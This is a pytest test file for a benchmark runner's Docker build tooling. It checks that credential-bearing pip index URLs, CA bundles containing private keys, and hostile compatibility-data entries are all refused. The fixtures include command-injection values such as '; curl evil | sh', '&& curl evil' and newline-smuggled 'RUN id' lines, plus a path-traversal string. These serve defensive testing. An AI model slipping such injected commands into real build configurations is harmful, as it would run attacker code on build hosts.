"""Secrets on the build side: pip index URLs never reach `docker history`, the CA bundle copied into the
image holds certificates only, and compatibility data is validated like the matrix."""

import textwrap

import pytest
import yaml

from conftest import runner_cli
from runner.build import build_args
from runner.compat import COMPAT_PATH, load_compat
from runner.errors import UserError
from runner.render import check_ca_bundle, host_ca_bundle

CERT = textwrap.dedent("""\
    # Issuer: CN=Example Root
    -----BEGIN CERTIFICATE-----
    MIIBszCCAVmgAwIBAgIUQ0hTYmVuY2hFeGFtcGxlUm9vdDAKBggqhkjOPQQDAjAX
    -----END CERTIFICATE-----
    """)
KEY = textwrap.dedent("""\
    -----BEGIN PRIVATE KEY-----
    MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg
    -----END PRIVATE KEY-----
    """)


# ------------------------------------------------------------------ index URLs

@pytest.mark.parametrize("name, value", [
    ("PIP_INDEX_URL", "https://alice:s3cret@pypi.example.org/simple"),
    ("PIP_INDEX_URL", "https://s3cret@pypi.example.org/simple"),
    ("PIP_INDEX_URL", "https://pypi.example.org/simple?token=s3cret"),
    ("PIP_INDEX_URL", "https://pypi.example.org/simple#s3cret"),
    ("PIP_INDEX_URL", "https://pypi.fury.io/s3cretAbCdEf0123456789/alice/"),
    ("PIP_INDEX_URL", "https://gitlab.example.org/glpat-s3cretXyZ/simple"),
    ("PIP_INDEX_URL", "https://pypi.example.org/" + "a" * 40 + "/simple"),
    ("PIP_EXTRA_INDEX_URL", "https://pypi.org/simple https://token@mirror.example/simple"),
    ("PIP_EXTRA_INDEX_URL", "https://pypi.org/simple\nhttps://x"),
    ("PIP_INDEX_URL", "ftp://mirror.example/simple"),
    ("PIP_TRUSTED_HOST", "alice:s3cret@mirror.example"),
])
def test_index_urls_that_may_carry_a_credential_are_refused(name, value):
    with pytest.raises(UserError) as err:
        build_args({name: value})
    message = err.value.message
    assert name in message and "\n" not in message
    assert "s3cret" not in message  # the refusal itself must not leak it


@pytest.mark.parametrize("value", [
    "https://pypi.org/simple", "https://download.pytorch.org/whl/cu128",
    "https://gitlab.example.org/api/v4/projects/123/packages/pypi/simple",
    "http://mirror.local:8080/repository/pypi-proxy/simple/",
])
def test_plain_mirror_urls_pass(value):
    assert build_args({"PIP_INDEX_URL": value}) == {"PIP_INDEX_URL": value}


def test_the_template_declares_no_arg_whose_value_is_unchecked():
    """Every ARG the base template declares is one build_args checks (or a predefined proxy arg)."""
    from runner.build import PIP_ARGS
    text = (COMPAT_PATH.parent / "base.Dockerfile.j2").read_text()
    declared = {line.split()[1].split("=")[0] for line in text.splitlines() if line.startswith("ARG ")}
    assert declared <= set(PIP_ARGS)


# ------------------------------------------------------------------ CA bundle

def test_a_bundle_of_certificates_is_accepted(tmp_path):
    path = tmp_path / "ca.crt"
    path.write_text(CERT + CERT)
    assert host_ca_bundle({"DLBENCH_CA_BUNDLE": str(path)}) == path


@pytest.mark.parametrize("content, what", [
    (CERT + KEY, "PRIVATE KEY"),
    (KEY, "PRIVATE KEY"),
    (CERT.replace("CERTIFICATE", "RSA PRIVATE KEY"), "RSA PRIVATE KEY"),
    (CERT + "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n", "PRIVATE KEY"),
    (CERT + "-----BEGIN PGP MESSAGE-----\nAAAA\n-----END PGP MESSAGE-----\n", "PGP MESSAGE"),
    ("machine pypi.org login alice password s3cret\n", "no PEM certificate"),
])
def test_a_bundle_with_anything_but_certificates_is_refused(tmp_path, content, what):
    path = tmp_path / "bundle.pem"
    path.write_text(content)
    with pytest.raises(UserError) as err:
        host_ca_bundle({"PIP_CERT": str(path)})
    message = err.value.message
    assert str(path) in message and "PIP_CERT" in message and what in message, message
    assert "s3cret" not in message


def test_a_device_is_not_a_bundle():
    with pytest.raises(UserError, match="regular file"):
        check_ca_bundle(__import__("pathlib").Path("/dev/zero"), "SSL_CERT_FILE")


def test_render_refuses_a_bundle_with_a_key_at_the_cli(tmp_path):
    path = tmp_path / "bundle.pem"
    path.write_text(CERT + KEY)
    proc = runner_cli("render", "--only", "pytorch", "--device", "cpu", "--out", tmp_path / "out",
                      env={"DLBENCH_CA_BUNDLE": str(path)}, timeout=300)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    text = " ".join(proc.stderr.split())
    assert str(path) in text and "DLBENCH_CA_BUNDLE" in text
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------ compatibility data is hostile too

def _compat_with(tmp_path, edit):
    data = yaml.safe_load(COMPAT_PATH.read_text())
    edit(data)
    path = tmp_path / "compat.yaml"
    path.write_text(yaml.safe_dump(data))
    load_compat.cache_clear()
    try:
        with pytest.raises(UserError) as err:
            load_compat(path)
    finally:
        load_compat.cache_clear()
    assert str(path) in err.value.message and "\n" not in err.value.message
    return err.value.message


def _pytorch_cpu(data):
    return data["frameworks"]["pytorch"]["versions"]["2.15.0"]["toolchains"]["cpu"]


@pytest.mark.parametrize("edit, key", [
    (lambda d: _pytorch_cpu(d).update(pip=["torch==2.15.0\nRUN id"]), "pip"),
    (lambda d: _pytorch_cpu(d).update(pip=["--index-url=http://evil.invalid/simple"]), "pip"),
    (lambda d: _pytorch_cpu(d).update(index_url="https://u:p@download.pytorch.org/whl"), "index_url"),
    (lambda d: _pytorch_cpu(d).update(index_url="https://x.org/whl; curl evil | sh"), "index_url"),
    (lambda d: d["bases"]["debian-bookworm"].update(image="debian\nRUN id"), "image"),
    (lambda d: d["bases"]["debian-bookworm"].update(python_packages=["python3 && curl evil"]), "python_packages"),
    (lambda d: d["frameworks"]["pytorch"].update({"import": "torch; import os"}), "import"),
    (lambda d: d["frameworks"]["mxnet"]["versions"]["1.9.1"].update(apt=["libgomp1; id"]), "apt"),
    (lambda d: d["frameworks"]["cntk"]["versions"]["2.7.post2"].update(openmpi="1.10.7/../x"), "openmpi"),
])
def test_hostile_compat_entries_are_refused(tmp_path, edit, key):
    message = _compat_with(tmp_path, edit)
    assert key in message, message


def test_the_project_compat_data_passes():
    load_compat.cache_clear()
    assert "pytorch" in load_compat().frameworks
